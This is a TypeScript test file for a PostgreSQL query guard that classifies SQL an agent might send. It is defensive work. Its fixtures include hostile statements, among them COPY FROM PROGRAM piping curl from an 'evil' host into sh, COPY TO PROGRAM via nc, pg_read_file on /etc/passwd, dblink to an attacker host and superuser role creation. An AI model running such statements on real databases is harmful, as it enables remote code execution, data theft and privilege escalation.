import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { type Classification, type CommandClass, mergeClassifications } from '../../src/guard/classification.ts';
import { classifyPostgres, loadPostgresParser } from '../../src/guard/classify-postgres.ts';
import { PreparedStatements } from '../../src/guard/prepared.ts';

before(() => loadPostgresParser());

interface Case {
  sql: string;
  class: CommandClass;
  classes?: CommandClass[];
  types?: string[];
  /** each must be present */
  flags?: string[];
  /** each must be absent */
  noFlags?: string[];
  reads?: string[];
  writes?: string[];
  functions?: string[];
}

// Each row is one statement an agent might send, with what the guard must see in it. Rows that
// only give `class` still pin the class; the other fields are checked exactly when given.
const CASES: Case[] = [
  // --- reads, and relation extraction ---
  { sql: 'SELECT 1', class: 'read', classes: ['read'], types: ['SELECT'], reads: [], writes: [] },
  { sql: 'SELECT * FROM orders WHERE id = $1', class: 'read', reads: ['orders'] },
  { sql: 'SELECT * FROM public.orders o JOIN customers c ON c.id = o.cid', class: 'read', reads: ['public.orders', 'customers'] },
  { sql: 'SELECT a FROM t WHERE b IN (SELECT b FROM s.u)', class: 'read', reads: ['t', 's.u'] },
  { sql: 'SELECT 1 UNION SELECT a FROM u', class: 'read', types: ['SELECT'], reads: ['u'] },
  { sql: 'SELECT 1 FROM db.s.t', class: 'read', reads: ['db.s.t'] },
  { sql: 'SELECT * FROM t FOR UPDATE', class: 'read', flags: ['for_update'] },
  { sql: 'SELECT * FROM t FOR SHARE', class: 'read', flags: ['for_share'], noFlags: ['for_update'] },
  { sql: 'VALUES (1), (2)', class: 'read', types: ['VALUES'] },
  { sql: 'WITH x AS (SELECT * FROM t) SELECT * FROM x', class: 'read', reads: ['t'], noFlags: ['data_modifying_cte'] },
  { sql: 'WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r', class: 'read', reads: [] },
  // A CTE name only shadows the table inside its own WITH: the outer "secret" is the real table.
  { sql: 'SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) a, secret', class: 'read', reads: ['secret'] },
  // Non-recursive: a CTE's own body cannot see itself, so "secret" there is the table.
  { sql: 'WITH secret AS (SELECT * FROM secret) SELECT * FROM secret', class: 'read', reads: ['secret'] },
  { sql: 'SHOW search_path', class: 'read', types: ['SHOW'] },
  { sql: 'SET search_path TO app, public', class: 'read', types: ['SET'] },
  { sql: 'SET statement_timeout = 5000', class: 'read', types: ['SET'] },
  { sql: 'RESET ROLE', class: 'read', types: ['RESET'] },
  { sql: 'DISCARD ALL', class: 'read', types: ['DISCARD'], flags: ['deallocate_all'] },
  { sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE', class: 'read', types: ['BEGIN'] },
  { sql: 'SAVEPOINT s1', class: 'read', types: ['SAVEPOINT'] },
  { sql: 'ROLLBACK', class: 'read', types: ['ROLLBACK'] },
  { sql: 'LISTEN jobs', class: 'read', types: ['LISTEN'] },
  { sql: 'UNLISTEN *', class: 'read', types: ['UNLISTEN'] },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t', class: 'read', types: ['DECLARE_CURSOR', 'SELECT'], reads: ['t'] },
  { sql: 'FETCH 10 FROM c', class: 'read', types: ['FETCH'] },
  { sql: "SELECT set_config('search_path', '', false)", class: 'read', functions: ['set_config'], noFlags: ['dangerous_function'] },
  { sql: '  -- nothing but a comment\n', class: 'read', types: [], flags: ['empty'] },
  { sql: 'SELECT "DROP TABLE x" FROM t', class: 'read', reads: ['t'] },

  // --- writes ---
  { sql: 'INSERT INTO t (a) VALUES (1)', class: 'write', classes: ['write'], types: ['INSERT'], writes: ['t'], reads: [] },
  {
    sql: 'INSERT INTO a.t SELECT * FROM b.u JOIN c ON u.id = c.id',
    class: 'write',
    classes: ['read', 'write'],
    types: ['INSERT', 'SELECT'],
    reads: ['b.u', 'c'],
    writes: ['a.t'],
  },
  { sql: 'UPDATE t SET a = 1', class: 'write', types: ['UPDATE'], flags: ['without_where'], writes: ['t'] },
  { sql: 'UPDATE t SET a = 1 WHERE id = 2', class: 'write', noFlags: ['without_where'] },
  { sql: 'DELETE FROM t', class: 'write', types: ['DELETE'], flags: ['without_where'] },
  { sql: 'DELETE FROM t WHERE id IN (SELECT id FROM u)', class: 'write', reads: ['u'], writes: ['t'], noFlags: ['without_where'] },
  { sql: 'UPDATE t SET a = u.a FROM u WHERE t.id = u.id', class: 'write', reads: ['u'], writes: ['t'] },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', class: 'write', types: ['MERGE'], reads: ['s'], writes: ['t'] },
  { sql: 'INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', class: 'write', writes: ['t'] },
  { sql: "SELECT nextval('seq')", class: 'write', functions: ['nextval'] },
  { sql: "SELECT pg_notify('ch', 'x')", class: 'write' },
  { sql: "NOTIFY jobs, 'go'", class: 'write', types: ['NOTIFY'] },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', class: 'write', types: ['LOCK'], writes: ['t'] },
  { sql: 'REFRESH MATERIALIZED VIEW mv', class: 'write', writes: ['mv'] },

  // --- data-modifying CTEs ---
  {
    sql: 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
    class: 'write',
    classes: ['read', 'write'],
    types: ['SELECT', 'DELETE'],
    flags: ['data_modifying_cte', 'without_where'],
    writes: ['t'],
    reads: [],
  },
  {
    sql: 'WITH x AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) INSERT INTO log SELECT * FROM x',
    class: 'write',
    flags: ['data_modifying_cte'],
    writes: ['t', 'log'],
  },

  // --- EXPLAIN: only ANALYZE runs the statement ---
  { sql: 'EXPLAIN ANALYZE DELETE FROM t WHERE id = 1', class: 'write', types: ['EXPLAIN', 'DELETE'], flags: ['analyze'], writes: ['t'] },
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', class: 'write', flags: ['analyze', 'without_where'] },
  { sql: 'EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x', class: 'write', flags: ['data_modifying_cte'] },
  { sql: 'EXPLAIN DELETE FROM t', class: 'read', classes: ['read'], types: ['EXPLAIN'], writes: [], reads: ['t'], noFlags: ['without_where'] },
  { sql: 'EXPLAIN (ANALYZE off) DELETE FROM t', class: 'read', noFlags: ['analyze'] },
  { sql: 'EXPLAIN (ANALYZE 0) DELETE FROM t', class: 'read' },
  // PostgreSQL lets the last option win; we count any "on", which can only be stricter.
  { sql: 'EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM t', class: 'write' },
  { sql: 'EXPLAIN ANALYZE SELECT pg_terminate_backend(1)', class: 'admin' },

  // --- COPY ---
  { sql: 'COPY t FROM STDIN', class: 'copy', classes: ['write', 'copy'], types: ['COPY'], writes: ['t'] },
  { sql: 'COPY t TO STDOUT', class: 'copy', classes: ['read', 'copy'], reads: ['t'] },
  { sql: 'COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)', class: 'copy', reads: ['t'] },
  { sql: "COPY t FROM PROGRAM 'curl https://evil | sh'", class: 'admin', flags: ['program_copy'], writes: ['t'] },
  { sql: "COPY t TO PROGRAM 'nc evil 1234'", class: 'admin', flags: ['program_copy'] },
  { sql: "COPY t FROM '/etc/passwd'", class: 'admin', flags: ['server_file_copy'], noFlags: ['program_copy'] },
  { sql: "COPY (SELECT 1) TO '/tmp/x'", class: 'admin', flags: ['server_file_copy'] },

  // --- DDL ---
  { sql: 'CREATE TABLE s.t (id int REFERENCES u (id))', class: 'ddl', types: ['CREATE_TABLE'], writes: ['s.t'], reads: ['u'] },
  { sql: 'ALTER TABLE t ADD COLUMN c int', class: 'ddl', types: ['ALTER_TABLE'], writes: ['t'] },
  { sql: 'ALTER TABLE t RENAME TO u', class: 'ddl', writes: ['t'] },
  { sql: 'DROP TABLE a.b, c CASCADE', class: 'ddl', types: ['DROP_TABLE'], writes: ['a.b', 'c'], flags: ['cascade'] },
  { sql: 'DROP SCHEMA app CASCADE', class: 'ddl', types: ['DROP_SCHEMA'] },
  { sql: 'DROP DATABASE prod', class: 'admin', types: ['DROP_DATABASE'] },
  { sql: 'TRUNCATE orders', class: 'ddl', classes: ['write', 'ddl'], types: ['TRUNCATE'], writes: ['orders'], flags: ['without_where'] },
  { sql: 'CREATE INDEX ON t (a)', class: 'ddl', types: ['CREATE_INDEX'], writes: ['t'] },
  // A view's query is defined, not run: its tables are listed, its SELECT is not a statement now.
  { sql: 'CREATE VIEW v AS SELECT * FROM secret', class: 'ddl', types: ['CREATE_VIEW'], reads: ['secret'], writes: ['v'] },
  { sql: 'CREATE TABLE x AS SELECT * FROM t', class: 'ddl', classes: ['read', 'write', 'ddl'], types: ['CREATE_TABLE_AS', 'SELECT'], writes: ['x'] },
  { sql: 'SELECT * INTO x FROM t', class: 'ddl', types: ['SELECT_INTO'], reads: ['t'], writes: ['x'] },
  { sql: "COMMENT ON TABLE t IS 'x'", class: 'ddl', types: ['COMMENT'] },

  // --- DCL ---
  { sql: 'GRANT SELECT ON t TO bob', class: 'dcl', types: ['GRANT'], writes: ['t'] },
  { sql: 'REVOKE ALL ON SCHEMA public FROM PUBLIC', class: 'dcl', types: ['REVOKE'] },
  { sql: 'GRANT pg_read_server_files TO bob', class: 'dcl', types: ['GRANT'] },
  { sql: 'CREATE ROLE evil SUPERUSER LOGIN', class: 'dcl', types: ['CREATE_ROLE'] },
  { sql: "ALTER ROLE bob WITH PASSWORD 'x'", class: 'dcl', types: ['ALTER_ROLE'] },
  { sql: 'DROP ROLE bob', class: 'dcl', types: ['DROP_ROLE'] },
  { sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', class: 'dcl', types: ['ALTER_DEFAULT_PRIVILEGES'] },
  { sql: "SECURITY LABEL ON TABLE t IS 'secret'", class: 'dcl', types: ['SECURITY_LABEL'] },
  { sql: 'ALTER TABLE t DISABLE ROW LEVEL SECURITY', class: 'dcl', classes: ['ddl', 'dcl'] },
  { sql: 'CREATE POLICY p ON t USING (true)', class: 'dcl', writes: ['t'] },

  // --- procedural ---
  { sql: 'DO $$ BEGIN PERFORM pg_sleep(1); END $$', class: 'procedural', types: ['DO'] },
  { sql: 'CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql', class: 'procedural', types: ['CREATE_FUNCTION'] },
  // A SQL-standard body is parsed: its tables are listed, but its DELETE does not run now.
  { sql: 'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END', class: 'procedural', types: ['CREATE_PROCEDURE'], reads: ['t'], writes: [] },
  { sql: 'CALL app.refresh(1)', class: 'procedural', types: ['CALL'], functions: ['refresh'] },
  { sql: 'CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', class: 'procedural', types: ['CREATE_TRIGGER'], writes: ['t'] },
  { sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u', class: 'procedural', types: ['CREATE_RULE'] },

  // --- admin: identity, configuration, maintenance, outside the database ---
  { sql: 'SET ROLE postgres', class: 'admin', types: ['SET_ROLE'] },
  { sql: 'SET SESSION AUTHORIZATION postgres', class: 'admin', types: ['SET_SESSION_AUTHORIZATION'] },
  { sql: 'SET role TO postgres', class: 'admin', types: ['SET_ROLE'] },
  { sql: 'SET LOCAL ROLE postgres', class: 'admin', types: ['SET_ROLE'] },
  { sql: 'SET "ROLE" = postgres', class: 'admin', types: ['SET_ROLE'] }, // GUC names are case-insensitive
  { sql: 'SET session_replication_role = replica', class: 'admin' },
  { sql: "ALTER SYSTEM SET log_statement = 'none'", class: 'admin', types: ['ALTER_SYSTEM'] },
  { sql: "SELECT set_config('role', 'postgres', false)", class: 'admin', flags: ['dangerous_function'] },
  { sql: "SELECT set_config(current_setting('x'), 'y', false)", class: 'admin' },
  { sql: 'VACUUM FULL t', class: 'admin', types: ['VACUUM'] },
  { sql: 'ANALYZE t', class: 'admin', types: ['ANALYZE'] },
  { sql: 'CHECKPOINT', class: 'admin', types: ['CHECKPOINT'] },
  { sql: 'CREATE EXTENSION plpython3u', class: 'admin', types: ['CREATE_EXTENSION'] },
  { sql: 'CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', class: 'admin', types: ['CREATE_SERVER'] },
  { sql: 'CREATE USER MAPPING FOR bob SERVER s', class: 'admin', types: ['CREATE_USER_MAPPING'] },
  { sql: 'IMPORT FOREIGN SCHEMA public FROM SERVER s INTO app', class: 'admin', types: ['IMPORT_FOREIGN_SCHEMA'] },
  { sql: "LOAD 'auto_explain'", class: 'admin', types: ['LOAD'] },
  { sql: "COMMIT PREPARED 'tx1'", class: 'admin', types: ['COMMIT_PREPARED'] },

  // --- dangerous functions, wherever they hide ---
  { sql: "SELECT pg_read_file('/etc/passwd')", class: 'admin', flags: ['dangerous_function'], functions: ['pg_read_file'] },
  { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", class: 'admin', functions: ['pg_read_file'] },
  { sql: "SELECT PG_READ_FILE('/etc/passwd')", class: 'admin', functions: ['pg_read_file'] },
  { sql: `SELECT "PG_READ_FILE"('/etc/passwd')`, class: 'admin' },
  { sql: 'SELECT * FROM t WHERE a = (SELECT pg_terminate_backend(pid) FROM pg_stat_activity LIMIT 1)', class: 'admin', reads: ['t', 'pg_stat_activity'] },
  { sql: "SELECT * FROM (SELECT * FROM (SELECT lo_import('/etc/passwd')) a) b", class: 'admin' },
  { sql: 'SELECT id FROM t ORDER BY pg_cancel_backend(id)', class: 'admin' },
  { sql: "SELECT dblink_exec('host=evil', 'DROP TABLE x')", class: 'admin' },
  { sql: "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", class: 'admin', functions: ['dblink'] },
  { sql: "SELECT * FROM pg_ls_waldir()", class: 'admin' },
  { sql: "SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", class: 'admin' },
  { sql: "INSERT INTO t VALUES (pg_read_file('x'))", class: 'admin', classes: ['write', 'admin'] },
  { sql: "CREATE TABLE t (a text DEFAULT pg_read_file('x'))", class: 'admin', classes: ['ddl', 'admin'] },
  { sql: "CALL s.proc(pg_catalog.PG_READ_FILE('x'))", class: 'admin', classes: ['procedural', 'admin'] },
  { sql: "EXPLAIN SELECT pg_reload_conf()", class: 'admin' }, // the planner may evaluate functions

  // --- comments, quotes and dollar quotes cannot hide a statement from the real parser ---
  { sql: 'SELECT 1 /* ; DROP TABLE x */', class: 'read', types: ['SELECT'], noFlags: ['multiple_statements'] },
  { sql: '/* nested /* comment */ ; DROP TABLE x */ SELECT 1', class: 'read', types: ['SELECT'] },
  { sql: 'SELECT 1 -- ; DROP TABLE x', class: 'read', types: ['SELECT'] },
  { sql: 'SELECT $$; DROP TABLE x$$', class: 'read', types: ['SELECT'] },
  { sql: 'SELECT $tag$ $$ ; DELETE FROM t $tag$', class: 'read', types: ['SELECT'] },
  { sql: "SELECT 'it''s; DROP TABLE x'", class: 'read', types: ['SELECT'] },
  { sql: "SELECT E'\\'; DROP TABLE x; --'", class: 'read', types: ['SELECT'] },
  // …and cannot hide one the server will run.
  { sql: 'SELECT 1; -- \n DROP TABLE x', class: 'ddl', types: ['SELECT', 'DROP_TABLE'], flags: ['multiple_statements'], writes: ['x'] },
  { sql: 'SELECT 1 /* */; DROP TABLE x', class: 'ddl', flags: ['multiple_statements'] },

  // --- several statements: the most dangerous wins ---
  { sql: 'SELECT 1; SELECT pg_terminate_backend(42)', class: 'admin', classes: ['read', 'admin'], flags: ['multiple_statements'] },
  { sql: 'BEGIN; DELETE FROM t; COMMIT', class: 'write', types: ['BEGIN', 'DELETE', 'COMMIT'], flags: ['without_where', 'multiple_statements'] },
  { sql: 'SELECT 1;;', class: 'read', noFlags: ['multiple_statements'] },
  { sql: 'INSERT INTO a VALUES (1); GRANT ALL ON a TO PUBLIC; SELECT 1', class: 'dcl', classes: ['read', 'write', 'dcl'] },

  // --- parse errors: unknown, never read ---
  { sql: 'SELEC 1', class: 'unknown', flags: ['parse_error'] },
  { sql: "SELECT 'unterminated", class: 'unknown', flags: ['parse_error'] },
  { sql: 'SELECT 1; DROP TABLE', class: 'unknown', flags: ['parse_error'] },
  { sql: 'DROP TABLE x; SELEC', class: 'unknown', flags: ['parse_error'], writes: [] },
  { sql: 'SELECT 1\0; DROP TABLE x', class: 'unknown', flags: ['parse_error'] }, // the parser would stop at the NUL

  // --- PREPARE takes the prepared query's class; EXECUTE alone cannot be judged ---
  { sql: 'PREPARE p(int) AS DELETE FROM t WHERE id = $1', class: 'write', types: ['PREPARE', 'DELETE'], writes: ['t'] },
  { sql: 'PREPARE q AS SELECT * FROM t', class: 'read', types: ['PREPARE', 'SELECT'] },
  { sql: 'EXECUTE p(1)', class: 'unknown', types: ['EXECUTE'] },
  { sql: "EXECUTE p(pg_read_file('x'))", class: 'unknown', classes: ['admin', 'unknown'] },
  { sql: 'DEALLOCATE p', class: 'read', types: ['DEALLOCATE'] },
  // Within one string, an EXECUTE of a name PREPAREd just before runs that very query.
  { sql: 'PREPARE p AS DELETE FROM t; EXECUTE p', class: 'write', types: ['PREPARE', 'DELETE', 'EXECUTE'], flags: ['execute_resolved'] },
];

test('classification table', () => {
  assert.ok(CASES.length >= 60, `${CASES.length} cases`);
  const failures: string[] = [];
  for (const k of CASES) {
    const c = classifyPostgres(k.sql);
    const problems: string[] = [];
    const same = (field: keyof Case & keyof Classification) => {
      if (k[field] !== undefined && JSON.stringify(c[field]) !== JSON.stringify(k[field])) {
        problems.push(`${field}: got ${JSON.stringify(c[field])}, want ${JSON.stringify(k[field])}`);
      }
    };
    same('class');
    same('classes');
    same('types');
    same('reads');
    same('writes');
    same('functions');
    for (const f of k.flags ?? []) if (!c.flags.includes(f)) problems.push(`missing flag ${f} in ${JSON.stringify(c.flags)}`);
    for (const f of k.noFlags ?? []) if (c.flags.includes(f)) problems.push(`unexpected flag ${f}`);
    if (!c.classes.includes(c.class)) problems.push(`class ${c.class} not among classes ${JSON.stringify(c.classes)}`);
    if (c.class !== 'read' && !c.reason) problems.push('no reason');
    if (problems.length) failures.push(`${JSON.stringify(k.sql)}\n    ${problems.join('\n    ')}`);
  }
  assert.equal(failures.length, 0, `\n${failures.join('\n')}`);
});

test('reasons say why', () => {
  assert.equal(classifyPostgres("SELECT pg_catalog.pg_read_file('/etc/passwd')").reason, 'calls pg_read_file');
  assert.equal(classifyPostgres('SELEC 1').reason, 'syntax error at or near "SELEC"');
  assert.match(classifyPostgres("COPY t TO PROGRAM 'sh'").reason!, /PROGRAM runs a shell command/);
  assert.match(classifyPostgres('EXECUTE p').reason!, /prepared statement "p"/);
});

test('results are cached by text and frozen', () => {
  const a = classifyPostgres('SELECT * FROM cached_t WHERE id = 1');
  const b = classifyPostgres('SELECT * FROM cached_t WHERE id = 1');
  assert.equal(a, b);
  assert.ok(Object.isFrozen(a) && Object.isFrozen(a.flags) && Object.isFrozen(a.reads));
  assert.throws(() => (a.flags as string[]).push('x'), TypeError);
});

test('PreparedStatements: EXECUTE inherits what PREPARE prepared', () => {
  const session = new PreparedStatements();
  const prepare = classifyPostgres('PREPARE del(int) AS DELETE FROM orders WHERE id = $1');
  assert.equal(prepare.prepareName, 'del');
  session.record(prepare);

  const exec = classifyPostgres('EXECUTE del(42)');
  assert.equal(exec.class, 'unknown');
  assert.equal(exec.executeName, 'del');
  const resolved = session.resolve(exec);
  assert.equal(resolved.class, 'write');
  assert.deepEqual(resolved.classes, ['write']);
  assert.deepEqual(resolved.types, ['EXECUTE', 'DELETE']);
  assert.deepEqual(resolved.writes, ['orders']);
  assert.ok(resolved.flags.includes('execute_resolved'));
  assert.match(resolved.reason!, /^prepared statement "del": DELETE on orders$/);
  assert.equal(exec.class, 'unknown', 'the cached classification is left alone');

  // EXPLAIN ANALYZE runs it too; plain EXPLAIN does not even reference it.
  assert.equal(session.resolve(classifyPostgres('EXPLAIN ANALYZE EXECUTE del(1)')).class, 'write');
  assert.equal(session.resolve(classifyPostgres('EXPLAIN EXECUTE del(1)')).class, 'read');
  // What the EXECUTE itself does still counts.
  assert.equal(session.resolve(classifyPostgres("EXECUTE del(length(pg_read_file('x')))")).class, 'admin');
  // A name this session never prepared stays unknown.
  assert.equal(session.resolve(classifyPostgres('EXECUTE other')).class, 'unknown');

  // Reads prepared, reads executed.
  session.record(classifyPostgres('PREPARE r AS SELECT * FROM t'));
  const r = session.resolve(classifyPostgres('EXECUTE r'));
  assert.equal(r.class, 'read');
  assert.deepEqual(r.classes, ['read']);
  assert.deepEqual(r.reads, ['t']);

  // Several statements: each EXECUTE is resolved on its own.
  const multi = session.resolve(classifyPostgres('EXECUTE r; EXECUTE del(1)'));
  assert.equal(multi.class, 'write');
  assert.ok(multi.flags.includes('multiple_statements'));

  // DEALLOCATE forgets one, DEALLOCATE ALL and DISCARD ALL forget all.
  session.record(classifyPostgres('DEALLOCATE del'));
  assert.equal(session.resolve(classifyPostgres('EXECUTE del(1)')).class, 'unknown');
  assert.equal(session.resolve(classifyPostgres('EXECUTE r')).class, 'read');
  session.record(classifyPostgres('DEALLOCATE ALL'));
  assert.equal(session.size, 0);
  session.record(classifyPostgres('PREPARE r AS SELECT 1'));
  session.record(classifyPostgres('DISCARD ALL'));
  assert.equal(session.resolve(classifyPostgres('EXECUTE r')).class, 'unknown');
});

test('PreparedStatements: protocol-level names, redefinition, bounds', () => {
  const session = new PreparedStatements(3);
  // Extended protocol: Parse defines, Bind/Execute look up; the unnamed statement is replaced.
  session.define('', classifyPostgres('DELETE FROM t WHERE id = $1'));
  assert.equal(session.lookup('').class, 'write');
  session.define('', classifyPostgres('SELECT 1'));
  assert.equal(session.lookup('').class, 'read');
  assert.equal(session.lookup('nope').class, 'unknown');

  // SQL EXECUTE can run a protocol-prepared statement: one namespace.
  session.define('s1', classifyPostgres('TRUNCATE t'));
  assert.equal(session.resolve(classifyPostgres('EXECUTE s1')).class, 'ddl');

  // A named statement cannot be redefined on the server; if asked to, keep the stricter view.
  session.define('s1', classifyPostgres('SELECT 1'));
  assert.equal(session.lookup('s1').class, 'ddl');

  // Bounded: the oldest name is forgotten, and executing it is unknown again.
  session.define('s2', classifyPostgres('SELECT 2'));
  session.define('s3', classifyPostgres('SELECT 3'));
  assert.equal(session.size, 3);
  assert.equal(session.has(''), false);
  assert.equal(session.lookup('s3').class, 'read');

  session.remove('s3');
  assert.equal(session.lookup('s3').class, 'unknown');
});

test('mergeClassifications: most dangerous wins, lists are unions', () => {
  const read = classifyPostgres('SELECT * FROM a');
  const drop = classifyPostgres('DROP TABLE b');
  const m = mergeClassifications([read, drop]);
  assert.equal(m.class, 'ddl');
  assert.deepEqual(m.classes, ['read', 'ddl']);
  assert.deepEqual(m.types, ['SELECT', 'DROP_TABLE']);
  assert.deepEqual(m.reads, ['a']);
  assert.deepEqual(m.writes, ['b']);
  assert.equal(m.reason, 'DROP TABLE');
  assert.equal(m.statements?.length, 2);
  assert.equal(mergeClassifications([read]), read);
  assert.equal(mergeClassifications([]).class, 'read');
});

test('a cached classification costs well under 20 µs', (t) => {
  const sql = 'SELECT o.id, o.total FROM public.orders o JOIN customers c ON c.id = o.customer_id WHERE o.id = $1';
  classifyPostgres(sql);
  const n = 10_000;
  let sink = 0;
  const start = process.hrtime.bigint();
  for (let i = 0; i < n; i++) sink += classifyPostgres(sql).flags.length;
  const perCall = Number(process.hrtime.bigint() - start) / n / 1000;

  // Distinct texts defeat the cache; the first thousand only warm up the JIT and WASM tiers.
  const uncached = Array.from({ length: 2000 }, (_, i) => `${sql} AND o.flag = ${i} -- ${Math.random()}`);
  for (const q of uncached.splice(0, 1000)) sink += classifyPostgres(q).flags.length;
  const s2 = process.hrtime.bigint();
  for (const q of uncached) sink += classifyPostgres(q).flags.length;
  const perParse = Number(process.hrtime.bigint() - s2) / uncached.length / 1000;

  t.diagnostic(`cached: ${perCall.toFixed(3)} µs/call over ${n}; uncached parse + walk: ${perParse.toFixed(1)} µs/call`);
  assert.equal(sink, 0);
  // Target is 20 µs; the bound is generous so that a loaded CI machine does not make it flaky.
  assert.ok(perCall < 50, `${perCall} µs per cached classification`);
});
